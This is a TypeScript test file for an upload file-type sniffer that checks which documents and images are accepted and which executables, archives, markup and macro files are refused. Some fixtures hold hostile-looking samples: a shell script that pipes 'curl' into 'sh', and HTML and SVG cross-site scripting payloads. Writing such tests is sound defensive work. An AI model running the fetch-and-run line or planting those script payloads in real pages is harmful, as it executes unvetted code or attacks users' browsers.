import { describe, expect, it } from 'vitest';
import { sampleOfBytes, type FileSample } from './file-sample.js';
import {
  bytes,
  compoundFile,
  doc,
  docx,
  heic,
  isoMedia,
  jpeg,
  noise,
  odt,
  pdf,
  png,
  rtf,
  text,
  webp,
  windowsExecutable,
  zip,
} from './file-fixtures.test-support.js';
import { sniffFileType } from './sniff-file-type.js';

const sniff = (data: Uint8Array) => sniffFileType(sampleOfBytes(data));

/** What a stream keeps of a file: its first and last bytes only. */
function ends(data: Uint8Array, head: number, tail: number): FileSample {
  return {
    head: data.subarray(0, head),
    tail: data.subarray(data.length - tail),
    size: data.length,
  };
}

describe('sniffFileType: the allowed types, from their bytes', () => {
  it.each([
    ['a PDF', pdf(), 'pdf'],
    ['a PNG', png(), 'png'],
    ['a JPEG', jpeg(), 'jpeg'],
    ['a WEBP', webp(), 'webp'],
    ['an iPhone HEIC (brand heic)', heic(), 'heic'],
    ['a HEIF of brand heix', isoMedia('heix', 'mif1'), 'heic'],
    ['a generic HEIF (mif1) with HEVC', isoMedia('mif1', 'mif1', 'heic'), 'heic'],
    ['an RTF', rtf(), 'rtf'],
    ['a Word 97–2003 document', doc(), 'doc'],
    ['UTF-8 text in Ukrainian', text(), 'txt'],
    ['text with a byte order mark', bytes([0xef, 0xbb, 0xbf], 'Звіт'), 'txt'],
    ['text that happens to start with MZ', bytes('MZS: протокол засідання'), 'txt'],
    ['text that quotes a tag later on', bytes('Нотатки: сторінка мала тег <script>'), 'txt'],
    ['text that starts with an angle bracket', bytes('<Львів> 3 грудня, протокол'), 'txt'],
    ['text that starts with an arrow', bytes('<- див. попередній лист'), 'txt'],
  ])('recognises %s', (_what, data, type) => {
    expect(sniff(data)).toEqual({ ok: true, type });
  });

  it('tells a DOCX and an ODT from other ZIP files by their entries', async () => {
    expect(sniff(await docx())).toEqual({ ok: true, type: 'docx' });
    expect(sniff(await odt())).toEqual({ ok: true, type: 'odt' });
  });

  it('reads OOXML part names case-insensitively, as the format says', async () => {
    const upper = await zip([
      { name: '[CONTENT_TYPES].XML', data: '<Types/>' },
      { name: 'Word/Document.xml', data: '<w:document/>' },
    ]);
    expect(sniff(upper)).toEqual({ ok: true, type: 'docx' });
  });
});

describe('sniffFileType: refusals, with the reason a person is told', () => {
  it.each([
    ['a Windows program', windowsExecutable(), 'executable'],
    [
      'a DOS program (MZ header with zeros, no PE)',
      bytes('MZ', new Array(62).fill(0)),
      'executable',
    ],
    ['a Linux program', bytes([0x7f], 'ELF', [2, 1, 1, 0, 0, 0, 0, 0]), 'executable'],
    ['a macOS program', bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), 'executable'],
    ['a macOS universal binary', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), 'executable'],
    ['a shell script', bytes('#!/bin/sh\ncurl http://x | sh\n'), 'executable'],
    ['a script with env', bytes('#!/usr/bin/env python3\nprint(1)\n'), 'executable'],
    ['a RAR archive', bytes('Rar!', [0x1a, 0x07, 0x01, 0x00]), 'archive'],
    ['a 7-Zip archive', bytes('7z', [0xbc, 0xaf, 0x27, 0x1c, 0, 4]), 'archive'],
    ['a gzip file', bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), 'archive'],
    ['a web page', bytes('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'markup'],
    [
      'an SVG drawing',
      bytes('  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      'markup',
    ],
    ['an XML file', bytes('<?xml version="1.0"?><a/>'), 'markup'],
    // Security review, finding 4: markup behind a BOM, whitespace or a comment.
    ['a page behind a comment', bytes('<!-- c --><html><script>alert(1)</script>'), 'markup'],
    [
      'an SVG behind a doctype',
      bytes('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"><svg onload="alert(1)"/>'),
      'markup',
    ],
    ['a page behind a BOM', bytes([0xef, 0xbb, 0xbf], '\r\n\t <html>x</html>'), 'markup'],
    [
      'XML behind a BOM and spaces',
      bytes([0xef, 0xbb, 0xbf], '   <?xml version="1.0"?>'),
      'markup',
    ],
    ['a page in capitals', bytes('\n<HTML><BODY onload=alert(1)>'), 'markup'],
    ['a bare script', bytes('<script>alert(1)</script>'), 'markup'],
    ['a lone comment', bytes('<!-- nothing but a comment -->'), 'markup'],
    ['an AVIF image', isoMedia('avif', 'mif1', 'avif'), 'unrecognised'],
    ['a generic HEIF that is really AVIF', isoMedia('mif1', 'mif1', 'avif'), 'unrecognised'],
    ['an MP4 video', isoMedia('isom', 'isom', 'mp41'), 'unrecognised'],
    [
      'a Windows installer (OLE2 without a Word document)',
      compoundFile([{ name: 'SummaryInformation', type: 2 }]),
      'unrecognised',
    ],
    ['an Excel 97 workbook', compoundFile([{ name: 'Workbook', type: 2 }]), 'unrecognised'],
    [
      'a Word 97 document with macros',
      compoundFile([
        { name: 'WordDocument', type: 2 },
        { name: 'Macros', type: 1 },
      ]),
      'macros',
    ],
    ['UTF-16 text (NUL bytes)', bytes([0xff, 0xfe, 0x1f, 0x04, 0x40, 0x04]), 'unrecognised'],
    ['bytes that are not UTF-8', bytes([0x41, 0xc3, 0x28, 0x42]), 'unrecognised'],
    ['random bytes', noise(300), 'unrecognised'],
    ['nothing at all', new Uint8Array(0), 'empty'],
  ])('refuses %s', (_what, data, refusal) => {
    expect(sniff(data)).toMatchObject({ ok: false, refusal });
  });

  it('refuses ZIP files that are not DOCX or ODT: a plain zip, a spreadsheet, a macro document', async () => {
    const plain = await zip([{ name: 'photos/1.jpg', data: jpeg() }]);
    const xlsx = await zip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'xl/workbook.xml', data: '<workbook/>' },
    ]);
    const ods = await zip([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', compress: false },
      { name: 'content.xml', data: '<c/>' },
    ]);
    const docm = await docx([{ name: 'word/vbaProject.bin', data: noise(64) }]);
    const jar = await zip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: X' }]);
    expect(sniff(plain)).toMatchObject({ ok: false, refusal: 'archive' });
    expect(sniff(xlsx)).toMatchObject({ ok: false, refusal: 'archive' });
    expect(sniff(ods)).toMatchObject({ ok: false, refusal: 'archive' });
    expect(sniff(docm)).toMatchObject({ ok: false, refusal: 'macros' });
    expect(sniff(jar)).toMatchObject({ ok: false, refusal: 'archive' });
  });

  it('does not take a name for a DOCX when only a word/ folder is there, or only the content types', async () => {
    const wordFolder = await zip([{ name: 'word/notes.txt', data: 'x' }]);
    const typesOnly = await zip([{ name: '[Content_Types].xml', data: '<Types/>' }]);
    expect(sniff(wordFolder)).toMatchObject({ ok: false, refusal: 'archive' });
    expect(sniff(typesOnly)).toMatchObject({ ok: false, refusal: 'archive' });
  });

  it('refuses a PDF-looking name on an executable: the bytes decide, never the name', () => {
    expect(sniff(windowsExecutable())).toMatchObject({ ok: false, refusal: 'executable' });
  });
});

describe('sniffFileType: a streamed file, seen only by its ends', () => {
  it('finds a large DOCX by its central directory at the end', async () => {
    const big = await docx([
      { name: 'word/media/scan.bin', data: noise(300_000), compress: false },
    ]);
    expect(sniffFileType(ends(big, 4096, 4096))).toEqual({ ok: true, type: 'docx' });
  });

  it('walks the local headers from the start when the end holds no directory', async () => {
    const small = await docx([
      { name: 'word/media/scan.bin', data: noise(10_000), compress: false },
    ]);
    // The tail is cut short of the directory's end record: only the head can tell.
    expect(sniffFileType(ends(small, small.length - 200, 10))).toEqual({ ok: true, type: 'docx' });
  });

  it('finds an ODT by its first entry alone', async () => {
    const file = await odt();
    expect(sniffFileType(ends(file, 100, 10))).toEqual({ ok: true, type: 'odt' });
  });

  it('finds a Word document whose directory lies in the tail', () => {
    const word = doc();
    const big = bytes(word.subarray(0, 512), noise(512 * 200), word.subarray(512));
    expect(sniffFileType(ends(big, 1024, 1024))).toEqual({ ok: true, type: 'doc' });
  });

  it('checks text at both ends, even when the tail starts inside a letter', () => {
    const long = bytes('Ї'.repeat(5000));
    expect(sniffFileType(ends(long, 1001, 1001))).toEqual({ ok: true, type: 'txt' });
    const binaryEnd = bytes('Ї'.repeat(5000), [0, 1, 2]);
    expect(sniffFileType(ends(binaryEnd, 1000, 1000))).toMatchObject({ ok: false });
  });
});
